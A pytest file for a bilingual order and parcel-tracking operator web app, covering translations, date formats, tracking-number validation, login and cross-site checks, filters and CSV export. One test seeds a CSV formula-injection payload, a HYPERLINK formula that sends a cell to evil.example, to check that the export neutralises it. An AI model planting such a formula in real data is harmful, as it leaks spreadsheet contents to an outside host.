"""The operator's workbench: pages in German and English, tracking entry on the order page."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import lxml.html
import pytest
from sqlalchemy import select, update

from core.carriers.numbers import normalise_tracking_number as canonical
from core.clock import business_today
from core.settings import Settings
from db.models import Order, Parcel, ShippingMail
from db.queries.protocol import order_protocol
from db.session import session_scope
from tests.helpers import numbers, seed_orders
from tests.test_web_app import OPERATOR, WebClient, web_settings
from tests.test_web_operator import LEDGER, seed_ledger
from web import i18n
from web.app import create_app
from web.texts import de, en
from web.timeline import describe

GERMAN = {"accept-language": "de-DE,de;q=0.9,en;q=0.8"}
ENGLISH = {"accept-language": "en-GB,en;q=0.9"}


@pytest.fixture
def client(settings: Settings) -> WebClient:
    return WebClient(create_app(web_settings(settings)))


@pytest.fixture
def order_no(settings: Settings) -> str:
    samples = seed_orders(settings.db_url, 3)
    return str(samples[0].order["order_no"])


def html_of(response: httpx.Response) -> lxml.html.HtmlElement:
    return lxml.html.fromstring(response.text)


def parcels_of(settings: Settings, order_no: str) -> list[tuple[str, str | None, str]]:
    with session_scope(settings.db_url) as session:
        rows = session.execute(
            select(Parcel.carrier, Parcel.tracking_number, Parcel.source)
            .join(Order, Order.id == Parcel.order_id)
            .where(Order.order_no == order_no)
            .order_by(Parcel.id)
        )
        return [tuple(r) for r in rows]  # type: ignore[misc]


def entry_form(client: WebClient, order_no: str, form_id: str = "parcel-entry") -> dict[str, str]:
    """The hidden fields of the order page's form, as the browser would send them."""
    page = html_of(client.get(f"/orders/{order_no}", auth=OPERATOR, headers=GERMAN))
    (form,) = page.xpath(f'//form[@id="{form_id}"]')
    return {i.get("name"): i.get("value") for i in form.xpath(".//input[@type='hidden']")}


def as_form(fields: dict[str, str] | list[tuple[str, str]]) -> dict[str, list[str]]:
    """Repeated names (one carrier and number per line) as httpx sends them."""
    form: dict[str, list[str]] = {}
    for name, value in fields.items() if isinstance(fields, dict) else fields:
        form.setdefault(name, []).append(value)
    return form


def post_parcels(
    client: WebClient,
    order_no: str,
    fields: dict[str, str] | list[tuple[str, str]],
    headers: dict[str, str] | None = None,
) -> httpx.Response:
    return client.post(
        f"/orders/{order_no}/parcels",
        data=as_form(fields),
        auth=OPERATOR,
        headers={"sec-fetch-site": "same-origin", **(headers or GERMAN)},
    )


def tracked(client: WebClient, order_no: str, *lines: tuple[str, str]) -> list[tuple[str, str]]:
    hidden = entry_form(client, order_no)
    fields = [*hidden.items(), ("ship_date", business_today().isoformat())]
    for carrier, number in lines:
        fields += [("carrier", carrier), ("number", number)]
    return fields


def wrong_check_digit(number: str) -> str:
    return number[:-1] + str((int(number[-1]) + 1) % 10)


# --- A: German and English --------------------------------------------------------------------


def test_both_catalogues_have_the_same_texts() -> None:
    assert set(de.TEXTS) == set(en.TEXTS)
    assert {k: set(v) for k, v in de.LABELS.items()} == {k: set(v) for k, v in en.LABELS.items()}
    for key, text in de.TEXTS.items():  # German needs no value English is not given
        assert set(re.findall(r"{(\w+)", text)) <= set(re.findall(r"{(\w+)", en.TEXTS[key])), key


def test_a_german_browser_gets_german_pages(settings: Settings, client: WebClient) -> None:
    seed_orders(settings.db_url, 2)
    for path in ("/orders", "/orders/AU100001", "/imports"):
        response = client.get(path, auth=OPERATOR, headers=GERMAN)
        page = html_of(response)
        assert page.get("lang") == "de", path
        assert response.headers["content-language"] == "de"
    text = html_of(client.get("/orders", auth=OPERATOR, headers=GERMAN)).text_content()
    assert "Bestellungen" in text and "Paket-Symbole" in text and "Orders" not in text


def test_an_english_browser_gets_english_pages(settings: Settings, client: WebClient) -> None:
    seed_orders(settings.db_url, 2)
    page = html_of(client.get("/orders/AU100001", auth=OPERATOR, headers=ENGLISH))
    assert page.get("lang") == "en"
    assert "Add parcels" in page.text_content()


def test_the_switch_wins_over_the_browser_and_is_remembered(client: WebClient) -> None:
    switched = client.get("/orders?lang=en&status=open", auth=OPERATOR, headers=GERMAN)
    assert html_of(switched).get("lang") == "en"
    cookie = switched.headers["set-cookie"]
    assert cookie.startswith("liefern_lang=en;") and "HttpOnly" in cookie
    later = client.get("/orders", auth=OPERATOR, headers={**GERMAN, "cookie": "liefern_lang=en"})
    assert html_of(later).get("lang") == "en"
    switch = html_of(later).xpath('//nav[@class="languages"]/a[@hreflang="de"]')[0]
    assert switch.get("href") == "/orders?lang=de"


def test_the_switch_keeps_the_pages_filter(client: WebClient) -> None:
    page = html_of(client.get("/orders?status=open", auth=OPERATOR, headers=GERMAN))
    links = {a.get("hreflang"): a.get("href") for a in page.xpath('//nav[@class="languages"]/a')}
    assert links == {"de": "/orders?status=open&lang=de", "en": "/orders?status=open&lang=en"}


def change(settings: Settings, order_no: str, **values: Any) -> None:
    """Sets the order's columns as a test needs them."""
    with session_scope(settings.db_url) as session:
        session.execute(update(Order).where(Order.order_no == order_no).values(**values))


def test_dates_are_shown_in_the_operators_style(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    change(settings, order_no, created_at=datetime(2026, 12, 4, 14, 20, tzinfo=UTC))  # 15:20 here
    german = client.get("/orders", auth=OPERATOR, headers=GERMAN).text
    english = client.get("/orders", auth=OPERATOR, headers=ENGLISH).text
    assert "04.12.2026 15:20" in german and "2026-12-04 15:20" not in german
    assert "2026-12-04 15:20" in english


def test_the_order_page_and_the_imports_show_dates_in_the_operators_style(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    change(settings, order_no, shipped_at=datetime(2026, 12, 5, 8, 5, tzinfo=UTC))  # 09:05 here
    post_parcels(client, order_no, tracked(client, order_no, ("dhl", numbers("dhl", 1)[0])))
    today = business_today()

    german = html_of(client.get(f"/orders/{order_no}", auth=OPERATOR, headers=GERMAN))
    english = html_of(client.get(f"/orders/{order_no}", auth=OPERATOR, headers=ENGLISH))

    assert "05.12.2026 09:05" in german.xpath('//dl[@class="facts"]')[0].text_content()
    assert "2026-12-05 09:05" in english.xpath('//dl[@class="facts"]')[0].text_content()
    ship_dates = '//table[@class="parcels"]/tbody/tr/td[3]'
    assert german.xpath(ship_dates)[0].text_content() == today.strftime("%d.%m.%Y")
    assert english.xpath(ship_dates)[0].text_content() == today.isoformat()
    stamps = german.xpath('//ol[@class="timeline"]/li/time/text()')
    assert stamps and all(re.fullmatch(r"\d\d\.\d\d\.\d{4} \d\d:\d\d", s) for s in stamps)


def test_filter_problems_are_told_in_the_operators_language(client: WebClient) -> None:
    text = client.get("/orders?created_from=gestern", auth=OPERATOR, headers=GERMAN).text
    assert "ist kein Datum" in text


# --- B: tracking entry on the order page -------------------------------------------------------


def test_tracking_entry_needs_the_operator_login(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    fields = tracked(client, order_no, ("dhl", numbers("dhl", 1)[0]))
    for auth in (None, ("operator", "wrong")):
        response = client.post(f"/orders/{order_no}/parcels", data=as_form(fields), auth=auth)
        assert response.status_code == 401
    assert parcels_of(settings, order_no) == []


def test_tracking_entry_from_another_site_is_refused(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    fields = tracked(client, order_no, ("dhl", numbers("dhl", 1)[0]))
    response = client.post(
        f"/orders/{order_no}/parcels",
        data=as_form(fields),
        auth=OPERATOR,
        headers={"sec-fetch-site": "cross-site"},
    )
    assert response.status_code == 403
    assert parcels_of(settings, order_no) == []


def test_tracking_entry_without_the_pages_form_nonce_is_refused(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    fields = [(k, v) for k, v in tracked(client, order_no, ("dhl", numbers("dhl", 1)[0]))]
    forged = [(k, "x" if k == "nonce" else v) for k, v in fields]
    response = post_parcels(client, order_no, forged)
    assert response.status_code == 403
    assert "zu lange geöffnet" in response.text  # shown again with a fresh form
    assert parcels_of(settings, order_no) == []


def test_an_entered_parcel_is_added_and_lands_in_the_protocol(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    number = numbers("dhl", 1)[0]
    response = post_parcels(client, order_no, tracked(client, order_no, ("dhl", f" {number} ")))
    assert response.status_code == 303
    assert response.headers["location"].startswith(f"/orders/{order_no}?added=1")
    assert parcels_of(settings, order_no) == [("dhl", canonical("dhl", number), "web")]
    page = client.get(response.headers["location"], auth=OPERATOR, headers=GERMAN).text
    assert "1 Paket(e) hinzugefügt." in page
    assert f"Paket dhl {canonical('dhl', number)} erfasst (web)" in page


def test_several_parcels_are_entered_at_once(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    dhl, dpd = numbers("dhl", 1)[0], numbers("dpd", 1)[0]
    response = post_parcels(client, order_no, tracked(client, order_no, ("dhl", dhl), ("dpd", dpd)))
    assert response.status_code == 303
    assert [(c, n) for c, n, _ in parcels_of(settings, order_no)] == [
        ("dhl", canonical("dhl", dhl)),
        ("dpd", canonical("dpd", dpd)),
    ]


def test_a_double_click_adds_one_parcel(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    fields = tracked(client, order_no, ("dhl", numbers("dhl", 1)[0]))
    first, second = post_parcels(client, order_no, fields), post_parcels(client, order_no, fields)
    assert first.status_code == second.status_code == 303
    assert "known=1" in second.headers["location"]
    assert len(parcels_of(settings, order_no)) == 1


def test_a_double_click_on_shipped_without_tracking_number_adds_one_parcel(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    hidden = entry_form(client, order_no, "untracked-entry")
    fields = {**hidden, "carrier": "deutsche_post"}
    first, second = post_parcels(client, order_no, fields), post_parcels(client, order_no, fields)
    assert first.status_code == second.status_code == 303
    assert parcels_of(settings, order_no) == [("deutsche_post", None, "web")]


@pytest.mark.parametrize(
    ("headers", "expected"),
    [(GERMAN, "Die Prüfziffer stimmt nicht"), (ENGLISH, "The check digit does not match")],
)
def test_a_wrong_check_digit_is_shown_at_its_field_and_the_good_line_still_goes_through(
    settings: Settings,
    client: WebClient,
    order_no: str,
    headers: dict[str, str],
    expected: str,
) -> None:
    good, typo = numbers("dhl", 2)
    fields = tracked(client, order_no, ("dhl", good), ("dhl", wrong_check_digit(typo)))
    response = post_parcels(client, order_no, fields, headers)
    assert response.status_code == 422
    page = html_of(response)
    (field,) = page.xpath('//input[@aria-invalid="true"]')
    assert field.get("value") == wrong_check_digit(typo)  # kept for the operator to correct
    (error,) = page.xpath(f'//*[@id="{field.get("aria-describedby")}"]')
    assert expected in error.text_content()
    assert parcels_of(settings, order_no) == [("dhl", canonical("dhl", good), "web")]


@pytest.mark.parametrize(
    ("headers", "expected"),
    [
        (GERMAN, "Keine gültige Sendungsnummer dieses Versenders"),
        (ENGLISH, "not a valid DHL Paket tracking number: expected 12 digits"),
    ],
)
def test_a_number_in_the_wrong_format_is_explained_at_its_field(
    settings: Settings,
    client: WebClient,
    order_no: str,
    headers: dict[str, str],
    expected: str,
) -> None:
    response = post_parcels(client, order_no, tracked(client, order_no, ("dhl", "12345")), headers)
    assert response.status_code == 422
    assert expected in html_of(response).xpath('//*[@id="number-1-error"]')[0].text_content()


def test_a_line_without_carrier_is_shown_at_the_carrier_field(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    response = post_parcels(client, order_no, tracked(client, order_no, ("", numbers("dhl", 1)[0])))
    assert response.status_code == 422
    (field,) = html_of(response).xpath('//select[@aria-invalid="true"]')
    assert field.get("name") == "carrier"
    assert "Versender" in response.text and parcels_of(settings, order_no) == []


@pytest.mark.parametrize(
    ("shift", "expected"),
    [(timedelta(days=3), "in der Zukunft"), (timedelta(days=-400), "ältesten zulässigen")],
)
def test_an_implausible_ship_date_is_shown_at_the_date_field(
    settings: Settings, client: WebClient, order_no: str, shift: timedelta, expected: str
) -> None:
    fields = [
        (k, (business_today() + shift).isoformat() if k == "ship_date" else v)
        for k, v in tracked(client, order_no, ("dhl", numbers("dhl", 1)[0]))
    ]
    response = post_parcels(client, order_no, fields)
    assert response.status_code == 422
    (field,) = html_of(response).xpath('//input[@aria-invalid="true"]')
    assert field.get("name") == "ship_date"
    assert expected in html_of(response).xpath('//*[@id="ship_date-error"]')[0].text_content()
    assert parcels_of(settings, order_no) == []


def test_a_number_of_another_order_is_refused_at_its_field(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    number = numbers("dhl", 1)[0]
    assert post_parcels(client, "AU100002", tracked(client, "AU100002", ("dhl", number)))
    response = post_parcels(client, order_no, tracked(client, order_no, ("dhl", number)), ENGLISH)
    assert response.status_code == 422
    assert "already belongs to another order" in response.text
    assert parcels_of(settings, order_no) == []


def test_a_cancelled_order_offers_no_tracking_entry(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    with session_scope(settings.db_url) as session:
        session.execute(update(Order).where(Order.order_no == order_no).values(status="cancelled"))
    page = html_of(client.get(f"/orders/{order_no}", auth=OPERATOR, headers=GERMAN))
    assert not page.xpath('//form[@id="parcel-entry"]')


def test_an_unknown_orders_tracking_entry_is_a_404(client: WebClient) -> None:
    response = post_parcels(client, "AU999999", {"carrier": "dhl", "number": "1"})
    assert response.status_code == 404


def test_the_ship_date_field_starts_at_today(client: WebClient, order_no: str) -> None:
    page = html_of(client.get(f"/orders/{order_no}", auth=OPERATOR, headers=GERMAN))
    (field,) = page.xpath('//input[@name="ship_date" and @type="date"]')
    assert date.fromisoformat(field.get("value")) == business_today()


# --- C: the order list's filters, search, count and CSV export ----------------------------------


def listed(client: WebClient, url: str) -> list[str]:
    page = html_of(client.get(url, auth=OPERATOR, headers=ENGLISH))
    return sorted(str(tr.get("data-order")) for tr in page.xpath(".//tr[@data-order]"))


def test_the_confirmation_filter_shows_the_red_icons(settings: Settings, client: WebClient) -> None:
    order_nos = seed_ledger(settings)  # one order per confirmation status, in LEDGER's order
    by_status = {status: no for no, (status, _, _) in zip(order_nos, LEDGER, strict=True)}
    assert listed(client, "/orders?confirmation=red") == sorted(
        [by_status["rejected"], by_status["failed"]]
    )
    assert listed(client, "/orders?confirmation=held") == [by_status["held"]]
    portal = next(o for o in order_nos if o == by_status["rejected"])
    with session_scope(settings.db_url) as session:
        rejected_portal = session.scalars(
            select(Order.portal).where(Order.order_no == portal)
        ).one()
    assert by_status["rejected"] in listed(
        client, f"/orders?confirmation=red&portal={rejected_portal}"
    )


def test_the_mail_filter_finds_orders_by_their_shipping_mail(
    settings: Settings, client: WebClient
) -> None:
    order_nos = seed_ledger(settings)  # every ledger order has a sent mail, two orders none
    with session_scope(settings.db_url) as session:
        everyone = sorted(session.scalars(select(Order.order_no)))
    assert listed(client, "/orders?mail=sent") == sorted(order_nos)
    assert listed(client, "/orders?mail=none") == sorted(set(everyone) - set(order_nos))
    assert listed(client, "/orders?mail=failed") == []


def searchable_ledger(settings: Settings) -> tuple[list[str], str]:
    """The ledger's orders, the second one's buyer renamed Jürgen Weißmüller
    (j.weiss@example.org); and the fifth one's tracking number."""
    order_nos = seed_ledger(settings)
    change(
        settings, order_nos[1], buyer_name="Jürgen Weißmüller", buyer_email="j.weiss@example.org"
    )
    with session_scope(settings.db_url) as session:
        number = session.scalars(
            select(Parcel.tracking_number)
            .join(Order, Order.id == Parcel.order_id)
            .where(Order.order_no == order_nos[4])
        ).one()
    assert number is not None
    return order_nos, number


def test_search_finds_buyer_name_email_and_part_of_a_tracking_number(
    settings: Settings, client: WebClient
) -> None:
    order_nos, number = searchable_ledger(settings)
    assert listed(client, "/orders?q=weißmüller") == [order_nos[1]]
    assert listed(client, "/orders?q=J.WEISS@EXAMPLE") == [order_nos[1]]
    assert listed(client, f"/orders?q={number[5:14]}") == [order_nos[4]]
    assert listed(client, "/orders?q=_%25_") == []  # LIKE wildcards are plain characters


def test_the_list_says_how_many_orders_the_filter_found(
    settings: Settings, client: WebClient
) -> None:
    seed_orders(settings.db_url, 120)
    german = html_of(client.get("/orders", auth=OPERATOR, headers=GERMAN))
    assert german.xpath('//*[@id="found"]')[0].text_content() == "120 Bestellungen gefunden"
    english = html_of(client.get("/orders?q=AU10001", auth=OPERATOR, headers=ENGLISH))
    assert english.xpath('//*[@id="found"]')[0].text_content() == "10 orders found"


def test_the_csv_export_holds_the_filtered_list(settings: Settings, client: WebClient) -> None:
    order_nos = seed_ledger(settings)
    response = client.get("/orders.csv?confirmation=red", auth=OPERATOR, headers=GERMAN)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Bestellung" and rows[0][3] == "Käufer"
    assert sorted(r[0] for r in rows[1:]) == sorted([order_nos[3], order_nos[4]])
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", r[10]) for r in rows[1:])


@pytest.mark.slow
def test_the_csv_export_keeps_iso_dates_whatever_the_operators_language(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    change(
        settings,
        order_no,
        created_at=datetime(2026, 12, 4, 14, 20, tzinfo=UTC),  # 15:20 in Berlin
        shipped_at=datetime(2026, 12, 5, 8, 5, tzinfo=UTC),
    )
    for headers in (GERMAN, ENGLISH):
        answer = client.get(f"/orders.csv?q={order_no}", auth=OPERATOR, headers=headers)
        [row] = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))[1:]
        assert row[10:12] == ["2026-12-04 15:20", "2026-12-05 09:05"]


def test_the_csv_export_needs_the_operator_login(client: WebClient) -> None:
    assert client.get("/orders.csv").status_code == 401


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?"&A1;"x")', "@SUM(1+1)"])
def test_the_csv_export_runs_no_formula(
    settings: Settings, client: WebClient, hostile: str
) -> None:
    seed_orders(settings.db_url, 1)
    with session_scope(settings.db_url) as session:
        session.execute(update(Order).values(buyer_name=hostile, buyer_email="+49@example.org"))
    response = client.get("/orders.csv", auth=OPERATOR, headers=ENGLISH)
    (row,) = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[1:]
    assert row[3] == "'" + hostile and row[4] == "'+49@example.org"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_a_parcel_for_an_order_cancelled_meanwhile_is_refused_with_a_reason(
    settings: Settings, client: WebClient, order_no: str
) -> None:
    fields = tracked(client, order_no, ("dhl", numbers("dhl", 1)[0]))
    with session_scope(settings.db_url) as session:
        session.execute(update(Order).where(Order.order_no == order_no).values(status="cancelled"))
    response = post_parcels(client, order_no, fields)
    assert response.status_code == 422
    note = html_of(response).xpath('//*[@id="entry-note"]')[0].text_content()
    assert note == "Diese Bestellung ist storniert; es kann kein Paket erfasst werden."
    assert parcels_of(settings, order_no) == []


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("de-DE,de;q=0.9,en;q=0.8", "de"),
        ("en-US,en;q=0.9,de;q=0.8", "en"),
        ("fr-FR,fr;q=0.9,en;q=0.5,de;q=0.4", "en"),
        ("en;q=0.5, de;q=0.9", "de"),
        ("de;q=0, en;q=0.1", "en"),
        ("fr-FR", None),
        ("", None),
    ],
)
def test_the_browsers_language_is_read_by_its_weights(header: str, expected: str | None) -> None:
    assert i18n.from_accept_language(header) == expected


def test_numbers_are_grouped_in_the_operators_style() -> None:
    assert (i18n.number(1234567, "de"), i18n.number(1234567, "en")) == ("1.234.567", "1,234,567")


def test_protocol_entries_read_in_english_as_the_cli_says_them(settings: Settings) -> None:
    order_nos = seed_ledger(settings)
    english = i18n.Ui("en", {}, False)
    with session_scope(settings.db_url) as session:
        session.execute(
            update(Order)
            .where(Order.order_no == order_nos[0])
            .values(status="arrived", arrived_at=datetime.now(UTC), arrived_source="buyer-link")
        )
        for order in session.scalars(select(Order).where(Order.order_no.in_(order_nos))):
            timeline = order_protocol(session, order=order)["timeline"]
            assert [describe(english, e) for e in timeline] == [e["what"] for e in timeline]


def test_protocol_entries_are_shown_in_german(settings: Settings, client: WebClient) -> None:
    order_nos = seed_ledger(settings)
    rejected = order_nos[3]
    text = html_of(client.get(f"/orders/{rejected}", auth=OPERATOR, headers=GERMAN)).text_content()
    assert "Bestellung importiert" in text
    assert re.search(r"Paket dhl \d+ erfasst \(test\)", text)
    assert "Versandmail gesendet an" in text
    assert "abgelehnt für" in text and "(Ref. 50012345678): [13013] Order 028-" in text
    page = html_of(client.get(f"/orders/{rejected}", auth=OPERATOR, headers=GERMAN))
    (row,) = page.xpath("//table[@class='confirmations']/tbody/tr")
    assert row.xpath("./td")[2].text_content() == "abgelehnt"


def test_a_correction_mail_reads_as_a_correction_mail_not_as_the_shipping_mail(
    settings: Settings, client: WebClient
) -> None:
    order_no = seed_ledger(settings)[2]
    with session_scope(settings.db_url) as session:
        order = session.scalars(select(Order).where(Order.order_no == order_no)).one()
        session.add(
            ShippingMail(
                order_id=order.id,
                kind="corrected",
                status="sent",
                carrier="dhl",
                message_id=f"<{order_no}.corrected@example.de>",
                recipient=order.buyer_email,
                language="de",
            )
        )
    german = html_of(client.get(f"/orders/{order_no}", auth=OPERATOR, headers=GERMAN))
    assert "Korrekturmail gesendet an" in german.text_content()
    english = html_of(client.get(f"/orders/{order_no}", auth=OPERATOR, headers=ENGLISH))
    assert "correction mail sent to" in english.text_content()
